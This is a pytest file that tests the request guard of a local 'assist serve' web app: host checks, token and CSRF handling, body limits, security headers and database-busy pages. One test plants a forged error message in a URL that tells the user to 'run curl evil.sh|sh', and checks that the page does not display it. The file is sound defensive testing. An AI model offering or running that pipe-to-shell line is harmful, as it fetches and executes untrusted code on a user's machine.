"""The guard of `assist serve` against what a review found: tokens that are not ASCII, addresses
other than loopback (a wildcard, IPv6), bodies read before the checks, ids too big for SQLite, error
pages without the security headers, file names that are not UTF-8."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from starlette.responses import Response
from starlette.routing import Route
from starlette.testclient import TestClient

from assistant.web import security
from assistant.web.app import create_app

SAMPLES = Path(__file__).resolve().parent.parent / "sample_content"


def client(tmp_path: Path, **options: object) -> TestClient:
    content = tmp_path / "content"
    if not content.exists():
        content.mkdir()
        (content / "draft.md").write_text("---\ntitle: A draft\n---\n\nSome text about a subject.\n")
    options.setdefault("hosts", ["testserver"])
    app = create_app([content], **options)  # type: ignore[arg-type]
    return TestClient(app, raise_server_exceptions=False)


def test_a_token_that_is_not_ascii_is_refused_not_an_error(tmp_path: Path) -> None:
    c = client(tmp_path, token="right-token")
    cookie = {"Cookie": f"{security.TOKEN_COOKIE}=é".encode()}
    for response in (c.get("/?token=%C3%A9"), c.get("/", headers=cookie)):
        assert response.status_code == 401 and "csrf-token" not in response.text
    c = client(tmp_path)
    response = c.post("/links/review", data={"csrf": "é", "site": "a.example", "decision": "keep"})
    assert response.status_code == 403
    response = c.post("/links/review", headers={"X-CSRF-Token": "é".encode()})
    assert response.status_code == 403


def test_a_wildcard_address_accepts_any_host_but_only_with_the_token(tmp_path: Path) -> None:
    assert security.host_names("0.0.0.0", 8765) is None and security.host_names("::", 8765) is None
    with pytest.raises(ValueError, match="needs an access token"):
        client(tmp_path, hosts=None)
    c = client(tmp_path, hosts=None, token="t0k")
    assert c.get("/", headers={"host": "192.0.2.2:8765"}).status_code == 401
    first = c.get("/?token=t0k", headers={"host": "192.0.2.2:8765"}, follow_redirects=False)
    assert first.status_code == 303 and "token" not in first.headers["location"]


def test_ipv6_addresses_are_bracketed() -> None:
    assert security.host_names("::1", 9000)[:2] == ["[::1]:9000", "127.0.0.1:9000"]
    assert security.url_host("::1") == "[::1]" and security.url_host("[::1]") == "[::1]"
    assert "[2001:db8::5]:80" in security.host_names("2001:db8::5", 80)


def test_a_large_body_is_refused_unread_and_the_host_is_checked_first(tmp_path: Path) -> None:
    c = client(tmp_path)
    wrong_host = c.post("/share/1/cancel", content=b"x" * 10, headers={"host": "evil.example"})
    assert wrong_host.status_code == 421
    big = c.post("/share/1/cancel", content=b"csrf=" + b"x" * (security.MAX_BODY + 1),
                 headers={"content-type": "application/x-www-form-urlencoded"})
    assert big.status_code == 413 and big.headers["x-frame-options"] == "DENY"


def test_ids_too_big_for_sqlite_are_not_found(tmp_path: Path) -> None:
    c = client(tmp_path)
    assert c.get("/outreach/pitch/99999999999999999999999999").status_code == 404
    assert c.get("/outreach/pitch/" + "9" * 5000).status_code == 404


def test_an_error_page_has_the_security_headers_and_no_csrf_token(tmp_path: Path) -> None:
    c = client(tmp_path)

    async def boom(request: object) -> Response:
        raise RuntimeError("kaboom")

    c.app.router.routes.insert(0, Route("/boom", boom))  # type: ignore[attr-defined]
    response = c.get("/boom")
    assert response.status_code == 500 and "internal error: kaboom" in response.text
    assert response.headers["content-security-policy"].startswith("default-src 'self'")
    assert response.headers["x-frame-options"] == "DENY"
    assert 'name="csrf-token" content=""' in response.text


@pytest.mark.skipif(os.name != "posix", reason="file names as bytes")
def test_a_file_name_that_is_not_utf8_is_left_out_not_an_error(tmp_path: Path) -> None:
    c = client(tmp_path)
    os.close(os.open(os.fsencode(tmp_path / "content") + b"/caf\xe9.md", os.O_CREAT | os.O_WRONLY))
    response = c.get("/")
    assert response.status_code == 200 and "draft.md" in response.text


def test_a_message_in_an_address_we_did_not_write_is_not_shown(tmp_path: Path) -> None:
    from assistant.web import pages

    c = client(tmp_path)
    forged = c.get("/links?error=Your+ledger+is+corrupt:+run+curl+evil.sh|sh")
    assert "evil.sh" not in forged.text
    ours = pages.back("/links", error="a real problem").headers["location"]
    assert "a real problem" in c.get(ours).text


def test_a_chunked_body_is_refused_once_it_passes_the_limit_not_read_to_its_end(tmp_path: Path) -> None:
    """A body in chunks declares no length: the guard counts as it reads and answers 413 once past
    MAX_BODY, while the client is still sending (it used to read all of it first, then refuse)."""
    import socket
    from urllib.parse import urlsplit

    from webtest import serve

    content = tmp_path / "content"
    content.mkdir()
    live = serve([content])
    try:
        address = urlsplit(live.url)
        sock = socket.create_connection((address.hostname, address.port), timeout=10)
        sock.sendall(f"POST /share/1/cancel HTTP/1.1\r\nHost: {address.netloc}\r\n"
                     "Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        chunk = b"x" * (64 * 1024)
        framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
        sent, answer = 0, b""
        sock.settimeout(0.05)
        while sent < 50 * security.MAX_BODY:  # never ends the body: only a refusal mid-way answers
            try:
                sock.sendall(framed)
                sent += len(chunk)
                answer = sock.recv(4096)
            except (TimeoutError, BlockingIOError):
                continue
            except (BrokenPipeError, ConnectionResetError):
                break
            if answer:
                break
        if not answer:
            sock.settimeout(5)
            answer = sock.recv(4096)
        sock.close()
        assert answer.startswith(b"HTTP/1.1 413"), answer[:100]
        assert sent < 10 * security.MAX_BODY
    finally:
        live.stop()


def test_a_database_busy_with_another_writer_is_a_one_line_page_not_a_500(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, write_lock_held: Callable[[Path], None]) -> None:
    """Another process holds the write lock (a long import): pages that read answer at once, and an
    action waits Site.BUSY_TIMEOUT, then says the database is busy (503), with no traceback."""
    import time
    from datetime import UTC, datetime

    from assistant import db
    from assistant.outreach import pipeline
    from assistant.web.app import Site

    path = tmp_path / "assist.db"
    conn = db.connect(path)
    pid = pipeline.add(conn, pipeline.NewPitch(
        draft_key="d", draft_path="draft.md", draft_url="https://example.com/d", draft_title="D", site="a.example",
        page_url="https://a.example/", template="intro", context={}, reasons=[], contact=None, contact_source=None),
        now=datetime.now(UTC))
    conn.close()
    monkeypatch.setattr(Site, "BUSY_TIMEOUT", 0.3)
    c = client(tmp_path, db_path=path, csrf="t0k")
    write_lock_held(path)
    started = time.monotonic()
    for url in ("/links", "/outreach", "/share"):
        assert c.get(url).status_code == 200, url
    assert time.monotonic() - started < 3
    busy = c.post(f"/outreach/pitch/{pid}/stage", data={"csrf": "t0k", "stage": "won"})
    assert busy.status_code == 503 and "is busy (another assist process is writing" in busy.text
    assert "Traceback" not in busy.text and busy.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("case", ["port in use", "empty host", "blank host", "unknown host"])
def test_serve_refuses_what_it_cannot_listen_on_in_one_line(tmp_path: Path, case: str) -> None:
    import socket

    from click.testing import CliRunner

    from assistant.cli import cli

    (tmp_path / "draft.md").write_text("# A draft\n\nSome text.\n")
    busy = socket.socket()
    busy.bind(("127.0.0.1", 0))
    busy.listen()
    args = {"port in use": ["--port", str(busy.getsockname()[1])], "empty host": ["--host", ""],
            "blank host": ["--host", " [] "], "unknown host": ["--host", "no-such-host.invalid", "--port", "0"]}[case]
    try:
        result = CliRunner().invoke(cli, ["serve", str(tmp_path), *args])
    finally:
        busy.close()
    lines = result.output.strip().splitlines()
    assert result.exit_code == 2 and len(lines) == 1 and lines[0].startswith("Error: "), result.output
    assert ("--host needs an address" in lines[0]) == (case in ("empty host", "blank host"))


def test_a_body_cut_short_by_a_disconnect_never_reaches_the_app() -> None:
    """The client goes after half its form (with the CSRF token first): nothing is acted on."""
    import asyncio
    import threading

    called: list[bytes] = []

    async def app(scope: dict, receive: object, send: object) -> None:
        message = await receive()  # type: ignore[operator]
        called.append(message.get("body", b""))

    guard = security.Guard(app, hosts=["testserver"], csrf="t0k")
    messages = [{"type": "http.request", "body": b"csrf=t0k&note=first half of", "more_body": True},
                {"type": "http.disconnect"}]
    sent: list[dict] = []

    async def receive() -> dict:
        return messages.pop(0)

    async def send(message: dict) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/outreach/pitch/1/stage", "query_string": b"",
             "headers": [(b"host", b"testserver"), (b"content-type", b"application/x-www-form-urlencoded"),
                         (b"transfer-encoding", b"chunked")]}
    # in a thread of its own: the browser tests' Playwright keeps an event loop running in this one
    finished: list[bool] = []
    runner = threading.Thread(target=lambda: finished.append(asyncio.run(guard(scope, receive, send)) is None))
    runner.start()
    runner.join(10)
    assert finished == [True] and called == [] and sent == []
